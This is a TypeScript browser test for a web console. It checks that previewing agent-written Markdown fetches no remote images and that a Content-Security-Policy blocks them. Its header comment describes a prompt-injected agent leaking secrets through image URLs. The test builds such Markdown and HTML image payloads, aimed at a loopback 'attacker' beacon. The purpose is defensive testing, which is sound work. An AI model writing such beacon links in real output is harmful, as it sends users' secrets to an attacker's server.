import { createServer, type Server } from "node:http";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { screenshot } from "../../support/chromium.ts";
import { count, newThread, signIn, text, visible, WAIT } from "./console-page.ts";
import { consoleSuite } from "./console-suite.ts";

// Issue 37 item 4: a Workdir file is the agent's output, so a prompt-injected agent writes
// Markdown whose images point at its own server with a secret in the URL. Previewing it
// must not make the user's browser fetch anything: the preview renders remote images as
// inert links, and the console's Content-Security-Policy refuses any image from another
// origin even if some code path created one.

const suite = consoleSuite();
const url = () => suite.workcell().url;

/** A 1×1 transparent PNG: what a beacon answers, and a legitimate image to preview. */
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
  "base64",
);

/** The bit of the page's DOM the probe uses (the test compiles without the DOM lib). */
type DocumentLike<E> = { createElement(tag: string): E; body: { append(e: E): void } };

type Beacon = { origin: string; hits: string[]; close(): Promise<void> };

/** The attacker's server on loopback: records every request's URL and answers an image. */
async function startBeacon(): Promise<Beacon> {
  const hits: string[] = [];
  const server: Server = createServer((req, res) => {
    hits.push(req.url ?? "");
    res.writeHead(200, { "content-type": "image/png" }).end(PNG);
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  const address = server.address();
  if (address === null || typeof address === "string") throw new Error("no TCP address");
  return {
    origin: `http://127.0.0.1:${address.port}`,
    hits,
    close: () =>
      new Promise<void>((closed) => {
        server.closeAllConnections();
        server.close(() => closed());
      }),
  };
}

let beacon: Beacon;
beforeAll(async () => {
  beacon = await startBeacon();
});
afterAll(() => beacon.close());

async function upload(page: Page, name: string, mimeType: string, buffer: Buffer) {
  await page.getByTestId("file-upload-input").setInputFiles({ name, mimeType, buffer });
  await visible(page.getByRole("link", { name }));
}

describe("web console: remote content in previews (issue 37)", () => {
  test("the console's pages carry a CSP that refuses remote images, inline script and framing, and nosniff", async () => {
    for (const path of ["/", "/threads/00000000-0000-4000-8000-000000000000/files/a.md"]) {
      const response = await fetch(`${url()}${path}`);
      expect(response.status).toBe(200);
      const csp = response.headers.get("content-security-policy") ?? "";
      expect(csp).toContain("img-src 'self' data: blob:");
      const script = csp.split(";").find((d) => d.trim().startsWith("script-src"));
      expect(script?.trim()).toBe("script-src 'self'");
      expect(csp).toContain("frame-ancestors 'none'");
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    }
    const index = await (await fetch(`${url()}/`)).text();
    // No inline script in the built page: every <script> loads a file of the console's own.
    expect(index).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
  });

  test("previewing Markdown with a remote image sends nothing to its server; the image is an inert link, and the user's own images still preview", async () => {
    const secret = `SECRET-${Date.now()}`;
    const page = await suite.freshPage();
    const violations: string[] = [];
    page.on("console", (m) => {
      if (m.text().includes("Content Security Policy")) violations.push(m.text());
    });
    await signIn(page, url(), "victim");
    await newThread(page, "Agent notes");
    await page
      .getByRole("navigation", { name: "Thread" })
      .getByRole("link", { name: "Files" })
      .click();
    await visible(page.getByText("This folder is empty."));
    const markdown = [
      "# Report",
      `![chart](${beacon.origin}/md?d=${secret})`,
      `[![badge](${beacon.origin}/nested?d=${secret})](${beacon.origin}/link)`,
      `<img src="${beacon.origin}/html?d=${secret}">`,
      "",
    ].join("\n");
    await upload(page, "report.md", "text/markdown", Buffer.from(markdown));
    await upload(page, "own.png", "image/png", PNG);

    await page.getByRole("link", { name: "report.md" }).click();
    const preview = page.getByTestId("file-content");
    await expect.poll(() => text(preview.getByRole("heading")), WAIT).toBe("Report");
    // The remote image is a link a person can choose to follow, showing where it goes.
    const inert = preview.getByRole("link", { name: /chart/ });
    await visible(inert);
    expect(await inert.getAttribute("href")).toBe(`${beacon.origin}/md?d=${secret}`);
    expect(await inert.getAttribute("rel")).toContain("noreferrer");
    expect(await count(preview.locator("img"))).toBe(0);
    await page.waitForLoadState("networkidle");
    await screenshot(page, "beacon-01-markdown-preview");

    // Even an image some code path creates is refused by the CSP: the violation is the
    // condition waited for, and the beacon still saw nothing.
    await page.evaluate((src) => {
      type Element = { src: string };
      const doc = (globalThis as unknown as { document: DocumentLike<Element> }).document;
      const img = doc.createElement("img");
      img.src = src;
      doc.body.append(img);
    }, `${beacon.origin}/probe?d=${secret}`);
    await expect.poll(() => violations.length, WAIT).toBeGreaterThan(0);
    await page.waitForLoadState("networkidle");
    expect(beacon.hits).toEqual([]);

    // The user's own image (bytes from the data plane, shown from a blob: URL) still renders.
    await page.getByRole("link", { name: "own.png" }).click();
    const own = page.getByRole("img", { name: "own.png" });
    await visible(own);
    await expect
      .poll(
        () => own.evaluate((img) => (img as unknown as { naturalWidth: number }).naturalWidth),
        WAIT,
      )
      .toBe(1);
    expect(beacon.hits).toEqual([]);
  });
});
